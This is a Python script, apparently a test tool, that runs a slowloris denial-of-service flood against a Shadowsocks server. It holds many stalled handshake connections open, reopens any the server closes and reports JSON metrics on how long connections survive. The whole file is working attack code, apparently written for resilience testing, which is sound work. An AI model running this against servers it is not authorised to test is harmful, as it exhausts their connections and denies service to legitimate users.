#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0
"""A slowloris against a Shadowsocks server: hold N connections that never
finish their handshake, reopening each one the server closes.

usage: slowloris.py --server HOST:PORT --n N [--trickle SECONDS]
                    [--duration SECONDS] [--dir DIR] [--seed S]

Opens N connections (non-blocking, as fast as they connect) and keeps N
open: one the server closes (FIN or RST) is counted and opened again at
once. With --trickle T each connection sends one random byte every T
seconds (never enough for a salt: a connection stops trickling after 8
bytes), the classic slowloris; with --trickle 0 they stay idle.

With --dir: DIR/ready is created once N connections were open at once, or
after --ramp seconds (a server that closes connections to make room for
new ones never lets N be open at once), and the flood stops when DIR/stop
exists; it stops after --duration seconds in any case. Prints one JSON
line:
  "n", "opened" (connections established in all), "max_open" (most open at
  once), "ramp_seconds" (until N were open at once the first time, or
  null),
  "closed": {"eof", "rst"} (closes by the server), "connect_errors",
  "lived": [min, p50, max] seconds of the connections the server closed,
  "open_at_end", "seconds".
"""

import argparse
import errno
import json
import os
import random
import resource
import select
import socket
import sys
import time


class Conn:
    __slots__ = ("sock", "t0", "state", "next", "sent")


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--server", required=True)
    ap.add_argument("--n", type=int, required=True)
    ap.add_argument("--trickle", type=float, default=5.0)
    ap.add_argument("--duration", type=float, default=600)
    ap.add_argument("--dir")
    ap.add_argument("--seed", type=int, default=0)
    ap.add_argument("--ramp", type=float, default=15)
    args = ap.parse_args()
    rnd = random.Random(args.seed)

    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = args.n + 64
    if soft < want:
        if hard != resource.RLIM_INFINITY and hard < want:
            ap.error("RLIMIT_NOFILE hard limit %d < %d" % (hard, want))
        resource.setrlimit(resource.RLIMIT_NOFILE, (want, hard))

    host, _, port = args.server.rpartition(":")
    host = host.strip("[]")
    addr = (host, int(port))
    fam = socket.AF_INET6 if ":" in host else socket.AF_INET

    ep = select.epoll()
    conns = {}
    st = {"opened": 0, "eof": 0, "rst": 0, "connect_errors": 0}
    errors = set()
    lived = []
    t_start = time.monotonic()
    ready, ready_at = False, None
    max_open = 0

    def open_one():
        s = socket.socket(fam, socket.SOCK_STREAM | socket.SOCK_NONBLOCK)
        err = s.connect_ex(addr)
        if err not in (0, errno.EINPROGRESS):
            st["connect_errors"] += 1
            errors.add(os.strerror(err))
            s.close()
            return
        c = Conn()
        c.sock, c.t0, c.state, c.sent = s, time.monotonic(), "connecting", 0
        c.next = 0
        conns[s.fileno()] = c
        ep.register(s.fileno(), select.EPOLLOUT)

    def drop(c):
        fd = c.sock.fileno()
        ep.unregister(fd)
        del conns[fd]
        c.sock.close()

    def established():
        return sum(1 for c in conns.values() if c.state == "open")

    def stop_asked():
        return args.dir and os.path.exists(os.path.join(args.dir, "stop"))

    last_trickle = time.monotonic()
    while time.monotonic() - t_start < args.duration and not stop_asked():
        # top up, a bounded number per round so that the loop stays live
        for _ in range(min(200, args.n - len(conns))):
            open_one()
        now = time.monotonic()
        for fd, ev in ep.poll(0.05):
            c = conns.get(fd)
            if c is None:
                continue
            if c.state == "connecting":
                err = c.sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
                if err:
                    st["connect_errors"] += 1
                    errors.add(os.strerror(err))
                    drop(c)
                    continue
                c.state, c.t0 = "open", now
                c.next = now + (rnd.uniform(0, args.trickle) if args.trickle else 1e18)
                st["opened"] += 1
                ep.modify(fd, select.EPOLLIN | select.EPOLLRDHUP)
                continue
            try:
                got = c.sock.recv(64)
                kind = "eof" if not got else None
            except ConnectionResetError:
                kind = "rst"
            except BlockingIOError:
                continue
            except OSError:
                kind = "rst"
            if kind is None:
                continue	# data: a server never answers a handshake
            st[kind] += 1
            lived.append(now - c.t0)
            drop(c)
        n_open = established()
        max_open = max(max_open, n_open)
        if not ready and (n_open >= args.n or now - t_start > args.ramp):
            ready = True
            if n_open >= args.n:
                ready_at = now - t_start
            if args.dir:
                open(os.path.join(args.dir, "ready"), "w").close()
        if args.trickle and now - last_trickle > 0.2:
            last_trickle = now
            for c in list(conns.values()):
                if c.state == "open" and c.sent < 8 and now >= c.next:
                    try:
                        c.sock.send(bytes([rnd.getrandbits(8)]))
                        c.sent += 1
                    except OSError:
                        pass
                    c.next = now + args.trickle

    lived.sort()
    out = {"n": args.n, "opened": st["opened"], "max_open": max_open,
           "ramp_seconds": round(ready_at, 1) if ready_at is not None else None,
           "closed": {"eof": st["eof"], "rst": st["rst"]},
           "connect_errors": st["connect_errors"], "errors": sorted(errors)[:3],
           "lived": [round(lived[0], 1), round(lived[len(lived) // 2], 1),
                     round(lived[-1], 1)] if lived else None,
           "open_at_end": established(),
           "seconds": round(time.monotonic() - t_start, 1)}
    print(json.dumps(out), flush=True)
    for c in list(conns.values()):
        c.sock.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
